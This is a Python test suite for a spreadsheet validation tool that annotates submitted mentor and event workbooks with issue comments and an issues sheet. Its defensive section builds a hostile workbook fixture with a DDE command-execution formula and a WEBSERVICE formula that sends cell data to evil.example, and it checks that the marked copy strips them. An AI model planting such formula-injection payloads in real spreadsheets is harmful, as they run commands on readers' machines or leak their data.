"""`validate FILE --annotate OUT.xlsx`: a marked-up copy to send back, the original untouched.

Every problem cell is filled and carries the issue's message as a comment (cells are found
by the issue's row and the column under the header that names the issue's column); a
问题清单 sheet lists one issue a row with a link to its cell; text that looks like a
formula stays text.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import openpyxl.workbook.defined_name
import pytest
from helpers import Run, invoke
from make_test_data import (
    COLUMNS,
    EVENT,
    MENTOR,
    TITLE,
    Sheet,
    event,
    mentor,
    table,
    write_csv,
    write_xls,
    write_xlsx,
)
from openpyxl.utils import get_column_letter

ISSUES_SHEET = "问题清单"
FORMULA_LIKE = ("=1+1", "@SUM(A1)")


def run(*args: str | Path) -> Run:
    result = invoke(*args)
    assert "Traceback" not in result.output + result.stderr
    return result


def annotate(source: Path, target: Path, *more: str) -> tuple[Run, list[dict[str, Any]]]:
    result = run("validate", source, "--annotate", target, "--format", "json", *more)
    issues: list[dict[str, Any]] = json.loads(result.stdout)["issues"] if result.stdout else []
    return result, issues


# Planted problems: a bad date, a blank required cell, an unknown unit, a bad date that
# looks like a formula, a bad category, a bad count, and a future date (a warning).
MENTORS = [
    mentor("王芳", "CM1", "2024-02-30"),
    mentor("李强", "", "2024-03-01"),
    mentor("赵敏", "CM3", "2024-03-01", "火星乡"),
    mentor(FORMULA_LIKE[0], "CM4", "2024-03-01", 所在载体=FORMULA_LIKE[1]),  # valid
    mentor("孙武", "CM5", FORMULA_LIKE[0]),
]
EVENTS = [
    event("创业沙龙第一期", "创业沙龙会", "2024-04-01"),
    event("创业培训班", "创业培训", "2024-05-01", 参与人次="三十"),
    event("创业大赛", "参加创业大赛", "2099-01-01"),
]
PLANTED = [
    ("bad_date", MENTOR, 3, "聘任日期"),  # row 1 is the title, row 2 the header
    ("missing_value", MENTOR, 4, "证书编号"),
    ("unknown_unit", MENTOR, 5, "所属单位"),
    ("bad_date", MENTOR, 7, "聘任日期"),
    ("bad_enum", EVENT, 2, "活动类别"),
    ("bad_number", EVENT, 3, "参与人次"),
    ("future_date", EVENT, 4, "活动日期"),
]


def planted_xlsx(path: Path) -> Path:
    write_xlsx(path, [table(MENTOR, MENTORS, titles=[TITLE]), table(EVENT, EVENTS)])
    return path


def planted_xls(path: Path) -> Path:
    write_xls(path, [table(MENTOR, MENTORS, titles=[TITLE]), table(EVENT, EVENTS)])
    return path


def planted_csv(path: Path) -> Path:
    write_csv(path, table(MENTOR, MENTORS).rows)
    return path


def fingerprint(path: Path) -> tuple[str, int]:
    return hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_mtime_ns


def header_column(sheet: Any, column: str) -> int:
    """1-based column under the header cell that names `column` (first 10 rows)."""
    for row in sheet.iter_rows(min_row=1, max_row=10):
        for cell in row:
            if cell.value == column:
                index: int = cell.column
                return index
    raise AssertionError(f"no header {column} in {sheet.title}")


FIRST_LINE = 3  # row 1 says what the copy is, row 2 is the header


def listed_rows(book: Any) -> list[tuple[Any, ...]]:
    """(severity, code, sheet, row, column, cell, count, message) of each line of the list."""
    sheet = book[ISSUES_SHEET]
    return [tuple(c.value for c in r[:8]) for r in sheet.iter_rows(min_row=FIRST_LINE)]


def check_marked(out: Path, issues: list[dict[str, Any]]) -> None:
    """Every cell issue: its cell filled and commented; the issues sheet lists and links it."""
    book = openpyxl.load_workbook(out)
    assert book.sheetnames[0] == ISSUES_SHEET
    cell_issues = [i for i in issues if i["row"] is not None and i["column"] is not None]
    assert cell_issues
    coordinates = {}
    for issue in cell_issues:
        sheet = book[issue["sheet"]]
        cell = sheet.cell(issue["row"], header_column(sheet, issue["column"]))
        assert cell.fill.fill_type == "solid", (issue, cell.coordinate)
        assert cell.comment is not None, (issue, cell.coordinate)
        assert issue["message"] in cell.comment.text
        assert issue["code"] in cell.comment.text
        coordinates[id(issue)] = cell.coordinate
    listed = list(book[ISSUES_SHEET].iter_rows(min_row=FIRST_LINE))
    assert len(listed) == len(issues)  # no two alike on consecutive rows here: one line each
    for row, issue in zip(listed, issues, strict=True):
        code, sheet_name, line, column, where, count, text = (c.value for c in row[1:8])
        assert (code, sheet_name or None, line, column or None, count, text) == (
            issue["code"],
            issue["sheet"],
            issue["row"],
            issue["column"],
            1,
            issue["message"],
        )
        if id(issue) in coordinates:
            assert where == coordinates[id(issue)]
            link = row[5].hyperlink
            assert link is not None and not link.target  # a place in the workbook only
            assert link.location == f"'{issue['sheet']}'!{where}"


def no_formulas(out: Path) -> list[str]:
    """Every text of the copy; asserts that none of its cells is a formula."""
    book = openpyxl.load_workbook(out)
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


# --- xlsx ----------------------------------------------------------------------------------


def test_xlsx_problem_cells_are_marked_and_listed(tmp_path: Path) -> None:
    source = planted_xlsx(tmp_path / "盐湖街道2024.xlsx")
    before = fingerprint(source)
    out = tmp_path / "退回" / "盐湖街道2024_问题标注.xlsx"
    out.parent.mkdir()
    result, issues = annotate(source, out)
    assert result.exit_code == 1, result.output  # errors were found
    assert [(i["code"], i["sheet"], i["row"], i["column"]) for i in issues] == PLANTED
    check_marked(out, issues)
    assert fingerprint(source) == before
    assert "已写入标注副本" in result.stderr


def test_the_copy_keeps_the_original_and_marks_only_problem_cells(tmp_path: Path) -> None:
    source = planted_xlsx(tmp_path / "a.xlsx")
    _, issues = annotate(source, tmp_path / "out.xlsx")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == [ISSUES_SHEET, MENTOR, EVENT]
    original = openpyxl.load_workbook(source)
    marked = set()
    for name in (MENTOR, EVENT):
        values = [[c.value for c in r] for r in book[name].iter_rows()]
        assert values == [[c.value for c in r] for r in original[name].iter_rows()]
        marked |= {
            (name, c.row, c.column)
            for r in book[name].iter_rows()
            for c in r
            if c.comment is not None or c.fill.fill_type is not None
        }
    expected = {
        (i["sheet"], i["row"], header_column(book[i["sheet"]], i["column"])) for i in issues
    }
    assert marked == expected


@pytest.mark.parametrize("suffix", [".xlsx", ".xls", ".csv"])
def test_formula_like_text_stays_text(tmp_path: Path, suffix: str) -> None:
    build = {".xlsx": planted_xlsx, ".xls": planted_xls, ".csv": planted_csv}[suffix]
    source = build(tmp_path / f"in{suffix}")
    result, _ = annotate(source, tmp_path / "out.xlsx")
    assert result.exit_code == 1, result.output
    texts = no_formulas(tmp_path / "out.xlsx")
    for text in FORMULA_LIKE:
        assert text in texts, text


# --- csv and xls: rebuilt from the values read ------------------------------------------


def test_csv_is_rebuilt_with_its_sheet_named_as_the_issues_name_it(tmp_path: Path) -> None:
    source = planted_csv(tmp_path / "盐湖街道导师.csv")
    before = fingerprint(source)
    result, issues = annotate(source, tmp_path / "out.xlsx")
    assert result.exit_code == 1, result.output
    assert {i["sheet"] for i in issues} == {MENTOR}
    assert openpyxl.load_workbook(tmp_path / "out.xlsx").sheetnames == [ISSUES_SHEET, MENTOR]
    check_marked(tmp_path / "out.xlsx", issues)
    assert fingerprint(source) == before


def test_xls_is_rebuilt_and_marked(tmp_path: Path) -> None:
    source = planted_xls(tmp_path / "盐湖街道2024.xls")
    before = fingerprint(source)
    result, issues = annotate(source, tmp_path / "out.xlsx")
    assert result.exit_code == 1, result.output
    assert [(i["code"], i["sheet"], i["row"], i["column"]) for i in issues] == PLANTED
    assert openpyxl.load_workbook(tmp_path / "out.xlsx").sheetnames == [ISSUES_SHEET, MENTOR, EVENT]
    check_marked(tmp_path / "out.xlsx", issues)
    assert fingerprint(source) == before


def test_a_sheet_name_excel_refuses_is_still_marked(tmp_path: Path) -> None:
    """A sheet named "[/bold]" (patched into the package) cannot keep its name in the copy."""
    source = tmp_path / "a.xlsx"
    write_xlsx(source, [Sheet("PLACEHOLDER", table(MENTOR, MENTORS[:1]).rows)])
    with zipfile.ZipFile(source) as zf:
        entries = [(info, zf.read(info.filename)) for info in zf.infolist()]
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for info, data in entries:
            zf.writestr(info, data.replace(b"PLACEHOLDER", b"[/bold]"))
    source.write_bytes(buffer.getvalue())
    result, issues = annotate(source, tmp_path / "out.xlsx")
    assert result.exit_code == 1, result.output
    ((code, sheet),) = {(i["code"], i["sheet"]) for i in issues}
    assert (code, sheet) == ("bad_date", "[/bold]")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    (copy,) = [s for s in book.worksheets if s.title != ISSUES_SHEET]
    cell = copy.cell(2, header_column(copy, "聘任日期"))
    assert cell.comment is not None and issues[0]["message"] in cell.comment.text
    link = book[ISSUES_SHEET].cell(FIRST_LINE, 6).hyperlink
    assert link is not None and copy.title in link.location
    assert "标注 1 个单元格" in result.stderr


def test_a_clean_file_gets_an_empty_issues_sheet_and_exit_0(tmp_path: Path) -> None:
    source = tmp_path / "ok.xlsx"
    write_xlsx(source, [table(MENTOR, [mentor("王芳", "CM1", "2024-03-01")])])
    result, issues = annotate(source, tmp_path / "out.xlsx")
    assert (result.exit_code, issues) == (0, [])
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    assert book.sheetnames == [ISSUES_SHEET]  # nothing to mark, nothing copied
    assert listed_rows(book) == []


# --- refusals ------------------------------------------------------------------------------


def test_an_existing_output_needs_force(tmp_path: Path) -> None:
    source = planted_xlsx(tmp_path / "a.xlsx")
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"the analyst's own file")
    result, _ = annotate(source, out)
    assert result.exit_code == 2
    assert "已存在" in result.stderr and "--force" in result.stderr
    assert out.read_bytes() == b"the analyst's own file"
    result, issues = annotate(source, out, "--force")
    assert result.exit_code == 1, result.output
    check_marked(out, issues)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".~sc-cli-")]


@pytest.mark.parametrize("second", ["b.xlsx", "folder"])
def test_only_one_input_file(tmp_path: Path, second: str) -> None:
    first = planted_xlsx(tmp_path / "a.xlsx")
    other = tmp_path / second
    if second == "folder":
        other.mkdir()
        paths = [other]
    else:
        planted_xlsx(other)
        paths = [first, other]
    result = run("validate", *paths, "--annotate", tmp_path / "out.xlsx")
    assert result.exit_code == 2
    assert "--annotate 只能用于单个文件" in result.stderr
    assert not (tmp_path / "out.xlsx").exists()


# --- nothing in a marked copy can attack its reader -----------------------------------

EVIL = "evil.example"
DDE = "=cmd|' /C calc'!A0"


def hostile_xlsx(path: Path) -> Path:
    """A submission holding live formulas, links, a name pointing outside and DDE text."""
    write_xlsx(path, [table(MENTOR, MENTORS[:3], header=[*COLUMNS[MENTOR], "备注"])])
    book = openpyxl.load_workbook(path)
    sheet = book[MENTOR]
    last = sheet.max_column
    sheet.cell(2, 1).value = f'=HYPERLINK("http://{EVIL}/a","王芳")'
    sheet.cell(3, last).value = f'=WEBSERVICE("http://{EVIL}/?"&B3)'
    sheet.cell(4, last).value = DDE
    sheet.cell(4, last).data_type = "s"
    sheet.cell(3, 1).hyperlink = f"http://{EVIL}/b"
    book.defined_names["outside"] = openpyxl.workbook.defined_name.DefinedName(
        "outside", attr_text=f"'http://{EVIL}/[x.xlsx]Sheet1'!$A$1"
    )
    book.save(path)
    return path


def parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def test_a_marked_copy_holds_no_formula_link_name_or_connection(tmp_path: Path) -> None:
    source = hostile_xlsx(tmp_path / "a.xlsx")
    assert EVIL.encode() in b"".join(parts(source).values())  # the attack is in the source
    out = tmp_path / "out.xlsx"
    result, _ = annotate(source, out)
    assert result.exit_code == 1, result.output
    texts = no_formulas(out)
    assert DDE in texts
    book = openpyxl.load_workbook(out)
    (dde,) = [c for row in book[MENTOR].iter_rows() for c in row if c.value == DDE]
    assert dde.data_type == "s" and dde.quotePrefix  # Excel keeps it text when edited
    for sheet in book.worksheets:
        for link in sheet._hyperlinks:
            assert not link.target and link.location, link  # places in this workbook only
    assert not book.defined_names
    package = parts(out)
    assert not [n for n in package if "externalLink" in n or "vbaProject" in n]
    assert not [n for n in package if "connections" in n or "queryTable" in n]
    assert EVIL.encode() not in b"".join(package.values())
    workbook_xml = package["xl/workbook.xml"].decode()
    # Only the issue list's own filter range and the repeated header rows (print titles)
    # of the list and the copied sheet, which Excel names itself.
    names = re.findall(r'<definedName name="([^"]+)"', workbook_xml)
    assert sorted(names) == ["_xlnm.Print_Titles", "_xlnm.Print_Titles", "_xlnm._FilterDatabase"]
    for rels in (n for n in package if n.endswith(".rels")):
        assert b'TargetMode="External"' not in package[rels], rels


def test_control_characters_are_shown_not_dropped_nor_fatal(tmp_path: Path) -> None:
    """calamine turns _x0001_ escapes (and .xls strings) into characters XML forbids."""
    from make_test_data import xlsx_by_hand

    header = "".join(
        f'<c r="{chr(65 + j)}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for j, name in enumerate(["姓名", "证书编号", "聘任日期", "所属单位"])
    )
    record = (
        '<c r="A2" t="inlineStr"><is><t>王_x0001_芳</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>CM_x0000_1</t></is></c>'
        '<c r="C2" t="inlineStr"><is><t>2024-02-30</t></is></c>'
        '<c r="D2" t="inlineStr"><is><t>区人社局</t></is></c>'
    )
    source = tmp_path / "a.xlsx"
    source.write_bytes(
        xlsx_by_hand([MENTOR], f'<row r="1">{header}</row><row r="2">{record}</row>')
    )
    out = tmp_path / "out.xlsx"
    result, issues = annotate(source, out)
    assert result.exit_code == 1, result.output
    assert ("bad_date", 2) in [(i["code"], i["row"]) for i in issues]
    texts = no_formulas(out)
    assert "王\\x01芳" in texts and "CM\\x001" in texts


# --- the list of issues ----------------------------------------------------------------


def test_an_issue_repeated_on_consecutive_rows_is_one_line_with_its_count(tmp_path: Path) -> None:
    rows = [mentor(f"导师{n}", "", "2024-03-01") for n in range(30)]  # 证书编号 blank x 30
    rows.insert(10, mentor("王芳", "CM1", "2024-13-01"))  # row 12: another issue between
    source = tmp_path / "a.xlsx"
    write_xlsx(source, [table(MENTOR, rows)])
    out = tmp_path / "out.xlsx"
    result, issues = annotate(source, out)
    assert result.exit_code == 1 and len(issues) == 31
    book = openpyxl.load_workbook(out)
    lines = listed_rows(book)
    col = get_column_letter(header_column(book[MENTOR], "证书编号"))
    date = get_column_letter(header_column(book[MENTOR], "聘任日期"))
    assert [(code, row, cell, count) for _, code, _, row, _, cell, count, _ in lines] == [
        ("missing_value", "2–11", f"{col}2:{col}11", 10),
        ("bad_date", 12, f"{date}12", 1),
        ("missing_value", "13–32", f"{col}13:{col}32", 20),
    ]
    link = book[ISSUES_SHEET].cell(FIRST_LINE, 6).hyperlink
    assert link.location == f"'{MENTOR}'!{col}2:{col}11"
    # Every issue fills its own cell; the first cell of a line says it for all its rows.
    for issue in issues:
        cell = book[MENTOR].cell(issue["row"], header_column(book[MENTOR], issue["column"]))
        assert cell.fill.fill_type == "solid"
        assert (cell.comment is not None) == (issue["row"] in (2, 12, 13))
    assert "第 2–11 行：[missing_value]" in book[MENTOR][f"{col}2"].comment.text


def test_a_sheet_skipped_for_a_missing_column_is_marked_at_its_header(tmp_path: Path) -> None:
    columns = [c for c in COLUMNS[MENTOR] if c != "证书编号"]
    source = tmp_path / "a.xlsx"
    write_xlsx(source, [table(MENTOR, [mentor("王芳", "CM1", "2024-03-01")], header=columns)])
    out = tmp_path / "out.xlsx"
    result, issues = annotate(source, out)
    assert [(i["code"], i["column"], i["row"]) for i in issues] == [
        ("missing_column", "证书编号", None)
    ]
    sheet = openpyxl.load_workbook(out)[MENTOR]
    header = next(iter(sheet.iter_rows(min_row=1, max_row=1)))
    assert all(c.fill.fill_type == "solid" for c in header if c.value)
    assert header[0].comment is not None and "证书编号" in header[0].comment.text
    assert "标注 1 个单元格" in result.stderr


# --- the tool's own files are no submissions ---------------------------------------------


def test_a_marked_copy_in_a_year_folder_is_not_read_as_a_submission(tmp_path: Path) -> None:
    source = planted_xlsx(tmp_path / "盐湖街道2024.xlsx")
    data = tmp_path / "data" / "2024"
    data.mkdir(parents=True)
    out = data / "盐湖街道2024_问题标注.xlsx"
    annotate(source, out)
    result = run("validate", data, "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["issues"] == []
    assert result.stderr.count("问题标注副本") == 1 and out.name in result.stderr
    report = run("report", "2024", "--data", tmp_path / "data", "--format", "json")
    assert report.exit_code == 0 and json.loads(report.stdout)["issues"]["errors"] == 0


@pytest.mark.parametrize(
    ("lang", "listed"),
    [
        ("zh", ["副本1.xlsx、", "副本2.xlsx、", "副本3.xlsx等"]),
        ("en", ["副本1.xlsx,", "副本3.xlsxandothers"]),
    ],
)
def test_marked_copies_are_named_in_the_language_s_own_list(
    tmp_path: Path, lang: str, listed: list[str]
) -> None:
    source = planted_xlsx(tmp_path / "盐湖街道2024.xlsx")
    data = tmp_path / "2024"
    data.mkdir()
    for n in range(1, 5):
        annotate(source, data / f"副本{n}.xlsx")
    result = run("validate", data, "--lang", lang)
    assert result.exit_code == 0, result.output
    said = "".join(result.stderr.split())  # however the console wrapped the long paths
    assert all(name in said for name in listed) and "副本4" not in said, said
    assert ("4份" if lang == "zh" else "Leftout4") in said


# --- a whole folder sent back --------------------------------------------------------------


def inbox(root: Path) -> Path:
    (root / "2024" / "部门").mkdir(parents=True)
    planted_xlsx(root / "2024" / "盐湖街道.xlsx")
    planted_csv(root / "2024" / "部门" / "区人社局导师.csv")
    write_xlsx(
        root / "2024" / "东沟乡.xlsx", [table(MENTOR, [mentor("王芳", "CM9", "2024-03-01")])]
    )
    (root / "2024" / "报送函.docx").write_bytes(b"PK\x03\x04 a cover letter")
    return root


def test_annotate_dir_writes_one_copy_per_file_with_problems(tmp_path: Path) -> None:
    folder = inbox(tmp_path / "收件")
    back = tmp_path / "退回"
    result = run("validate", folder, "--annotate-dir", back)
    assert result.exit_code == 1, result.output
    written = sorted(p.relative_to(back).as_posix() for p in back.rglob("*") if p.is_file())
    assert written == ["2024/盐湖街道_问题标注.xlsx", "2024/部门/区人社局导师_问题标注.xlsx"]
    assert "写入 2 份标注副本" in result.stderr
    for path in back.rglob("*.xlsx"):
        assert openpyxl.load_workbook(path).sheetnames[0] == ISSUES_SHEET
    # Again: nothing is overwritten without --force, and nothing half-done is left.
    again = run("validate", folder, "--annotate-dir", back)
    assert again.exit_code == 2 and "--force" in again.stderr
    assert run("validate", folder, "--annotate-dir", back, "--force").exit_code == 1
    assert not [p for p in back.rglob(".~sc-cli-*")]


def test_annotate_dir_names_copies_in_english_with_lang_en(tmp_path: Path) -> None:
    folder = inbox(tmp_path / "in")
    back = tmp_path / "back"
    result = run(
        "validate", folder / "2024" / "盐湖街道.xlsx", "--annotate-dir", back, "--lang", "en"
    )
    assert result.exit_code == 1, result.output
    assert [p.name for p in back.iterdir()] == ["盐湖街道_issues.xlsx"]
    assert openpyxl.load_workbook(back / "盐湖街道_issues.xlsx").sheetnames[0] == "Issues"


def test_annotate_dir_refuses_the_folder_being_checked(tmp_path: Path) -> None:
    folder = inbox(tmp_path / "收件")
    result = run("validate", folder, "--annotate-dir", folder / "2024" / "退回")
    assert result.exit_code == 2 and "正在校验" in result.stderr
    assert not (folder / "2024" / "退回").exists()
    both = run(
        "validate", folder, "--annotate-dir", tmp_path / "x", "--annotate", tmp_path / "y.xlsx"
    )
    assert both.exit_code == 2
    (tmp_path / "退回.xlsx").write_bytes(b"the clerk's own file")
    a_file = run("validate", folder, "--annotate-dir", tmp_path / "退回.xlsx")
    assert a_file.exit_code == 2 and "应为目录" in a_file.stderr, a_file.stderr
    assert (tmp_path / "退回.xlsx").read_bytes() == b"the clerk's own file"
